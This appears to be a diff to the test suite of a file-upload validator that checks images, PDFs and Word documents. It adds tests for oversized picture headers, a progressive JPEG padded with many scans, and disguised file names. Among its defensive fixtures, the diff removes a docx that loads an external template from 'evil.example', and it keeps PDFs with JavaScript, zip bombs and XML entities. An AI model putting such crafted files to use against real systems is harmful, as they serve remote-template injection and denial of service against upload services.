@@ -32,16 +32,35 @@ const VIRUS = 'This file was refused by the virus check.';
 
 describe('what is good', () => {
   it('takes each type under its names', async () => {
-    expect(await inspect(await picture('png'), 'a.PNG')).toEqual({ mediaType: 'image/png', inline: true });
-    expect(await inspect(await picture('jpeg'), 'a.jpeg')).toEqual({ mediaType: 'image/jpeg', inline: true });
-    expect(await inspect(await picture('webp'), 'a.webp', 'product_image')).toEqual({
-      mediaType: 'image/webp',
+    expect(await inspect(await picture('png'), 'a.PNG')).toEqual({
+      mediaType: 'image/png',
+      name: 'a.PNG',
       inline: true,
     });
-    expect(await inspect(pdf(), 'a.pdf')).toEqual({ mediaType: 'application/pdf', inline: true });
+    expect(await inspect(await picture('jpeg'), 'a.jpeg')).toEqual({
+      mediaType: 'image/jpeg',
+      name: 'a.jpeg',
+      inline: true,
+    });
+    expect(await inspect(await picture('webp'), 'a.webp', 'product_image')).toEqual({
+      mediaType: 'image/webp',
+      name: 'a.webp',
+      inline: true,
+    });
+    expect(await inspect(pdf(), 'a.pdf')).toEqual({ mediaType: 'application/pdf', name: 'a.pdf', inline: true });
     const active = pdf({ extra: '/Names << /JavaScript 5 0 R >>' });
-    expect(await inspect(active, 'a.pdf')).toEqual({ mediaType: 'application/pdf', inline: false });
-    expect(await inspect(docx(), 'a.docx')).toEqual({ mediaType: DOCX, inline: false });
+    expect(await inspect(active, 'a.pdf')).toEqual({ mediaType: 'application/pdf', name: 'a.pdf', inline: false });
+    expect(await inspect(docx(), 'a.docx')).toEqual({ mediaType: DOCX, name: 'a.docx', inline: false });
+  });
+
+  it.each<[string, () => Promise<Buffer> | Buffer, string]>([
+    ['DOC-20240911-WA0001', () => pdf(), 'DOC-20240911-WA0001.pdf'],
+    ['1000045678', () => picture('jpeg'), '1000045678.jpg'],
+    ['EPR Certificate dt. 05.06.2025', () => docx(), 'EPR Certificate dt. 05.06.2025.docx'],
+    ['image.jfif', () => picture('jpeg'), 'image.jpg'],
+    ['', () => picture('png'), 'file.png'],
+  ])('takes %j for what its bytes are', async (name, make, stored) => {
+    expect(await inspect(await make(), name)).toMatchObject({ name: stored });
   });
 
   it('takes a document with links to the web', async () => {
@@ -66,10 +85,10 @@ describe('what is another type than allowed or claimed', () => {
     );
   });
 
-  it('refuses a name that claims another type, or none', async () => {
+  it('refuses a name that claims another type', async () => {
     const png = await picture('png');
-    await expect(inspect(png, 'a.pdf')).rejects.toMatchObject(refused('wrong_type'));
-    await expect(inspect(png, 'a')).rejects.toMatchObject(refused('wrong_type'));
+    for (const name of ['a.pdf', 'a.exe', 'a.jfif', 'a.png.html'])
+      await expect(inspect(png, name), name).rejects.toMatchObject(refused('wrong_type'));
     await expect(inspect(docx(), 'a.png')).rejects.toMatchObject(refused('wrong_type'));
   });
 
@@ -110,15 +129,55 @@ describe('pictures', () => {
     ]);
   }
 
+  /** A JPEG or WebP with this size in its header, in place of that of its few pixels. */
+  async function claiming(format: 'jpeg' | 'webp', width: number, height: number): Promise<Buffer> {
+    const bytes = await picture(format);
+    if (format === 'jpeg') {
+      const frame = bytes.indexOf(Buffer.from([0xff, 0xc0]));
+      bytes.writeUInt16BE(height, frame + 5);
+      bytes.writeUInt16BE(width, frame + 7);
+    } else {
+      const start = bytes.indexOf(Buffer.from([0x9d, 0x01, 0x2a]));
+      bytes.writeUInt16LE(width, start + 3);
+      bytes.writeUInt16LE(height, start + 5);
+    }
+    return bytes;
+  }
+
+  it.each<[string, () => Promise<Buffer> | Buffer, string]>([
+    ['a PNG of 30,000 × 30,000', () => announced(30_000, 30_000), 'The picture has more than 80 megapixels.'],
+    ['a PNG of 10,000 × 8,001', () => announced(10_000, 8_001), 'The picture has more than 80 megapixels.'],
+    ['a JPEG of 12,000 × 10,001', () => claiming('jpeg', 12_000, 10_001), 'The picture has more than 120 megapixels.'],
+    ['a WebP of 12,000 × 10,001', () => claiming('webp', 12_000, 10_001), 'The picture has more than 120 megapixels.'],
+    ['a PNG of 30,001 × 10', () => announced(30_001, 10), 'The picture is too large.'],
+    ['a PNG of 10 × 30,001', () => announced(10, 30_001), 'The picture is too large.'],
+  ])('refuses %s by its header', async (_, make, text) => {
+    const bytes = await make();
+    const name = bytes[0] === 0x89 ? 'a.png' : bytes[0] === 0xff ? 'a.jpg' : 'a.webp';
+    await expect(inspect(bytes, name, 'product_image')).rejects.toMatchObject(refused('invalid', text));
+  });
+
   it.each([
-    [30_000, 30_000],
-    [12_001, 10],
-    [10, 12_001],
-    [8_000, 5_001],
-  ])('refuses %i × %i by its header', async (width, height) => {
-    await expect(inspect(announced(width, height), 'a.png')).rejects.toMatchObject(
-      refused('invalid', 'The picture is too large.'),
-    );
+    ['jpeg', 8_000, 6_000],
+    ['jpeg', 8_064, 6_048],
+    ['jpeg', 8_160, 6_144],
+    ['jpeg', 12_000, 10_000],
+    ['webp', 8_160, 6_144],
+    ['png', 10_000, 8_000],
+  ] as const)('takes a %s of %i × %i', async (format, width, height) => {
+    const bytes = await picture(format, { width, height });
+    expect(await inspect(bytes, 'IMG_2024', 'product_image')).toMatchObject({ inline: true });
+  });
+
+  it('takes a progressive JPEG, and refuses one with a hundred scans before it is decoded', async () => {
+    const flat = sharp({ create: { width: 8_000, height: 6_000, channels: 3, background: 'red' } });
+    const bytes = await flat.jpeg({ progressive: true }).toBuffer();
+    expect(await inspect(bytes, 'a.jpg')).toMatchObject({ inline: true });
+    const scan = bytes.subarray(bytes.lastIndexOf(Buffer.from([0xff, 0xda])), -2);
+    const many = Buffer.concat([bytes.subarray(0, -2), ...Array.from({ length: 90 }, () => scan), bytes.subarray(-2)]);
+    const began = performance.now();
+    await expect(inspect(many, 'a.jpg')).rejects.toMatchObject(refused('invalid', 'The picture cannot be read.'));
+    expect(performance.now() - began).toBeLessThan(2_000);
   });
 
   it('refuses what is cut off or cannot be decoded', async () => {
@@ -144,11 +203,6 @@ describe('pictures', () => {
 });
 
 describe('documents', () => {
-  const template = (target: string) =>
-    docx({
-      name: 'word/_rels/settings.xml.rels',
-      data: `<Relationships><Relationship Id="r1" Type="http://x/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="${target}"/></Relationships>`,
-    });
   const heavy = Buffer.concat([randomBytes(600 * 1024), Buffer.alloc(40 * 1024 * 1024)]);
   const bombs = Buffer.alloc(41 * 1024 * 1024);
   const macros = 'application/vnd.ms-word.document.macroEnabled.main+xml';
@@ -180,7 +234,6 @@ describe('documents', () => {
           { name: 'xl/workbook.xml', data: '' },
         ]),
     ],
-    ['an external template', () => template('External')],
     ['entities', () => docx({ name: 'word/_rels/x.rels', data: '<!DOCTYPE x [<!ENTITY y "External">]>' })],
     ['an archive that only says it is a document', () => zip(documentParts().slice(0, 2))],
     [
@@ -254,7 +307,9 @@ describe('PDFs', () => {
     ['is encrypted', () => pdf({ trailer: '/Encrypt 9 0 R' })],
     ['is encrypted in disguise', () => pdf({ trailer: '/#45ncrypt << /Filter /Standard >>' })],
   ])('refuses one that %s', async (_, make) => {
-    await expect(inspect(make(), 'a.pdf')).rejects.toMatchObject(refused('invalid', DOCUMENT));
+    await expect(inspect(make(), 'a.pdf')).rejects.toMatchObject(
+      refused('invalid', 'This PDF is locked by a password. Save it without one and send it again.'),
+    );
   });
 
   it('refuses one that is an archive too', async () => {
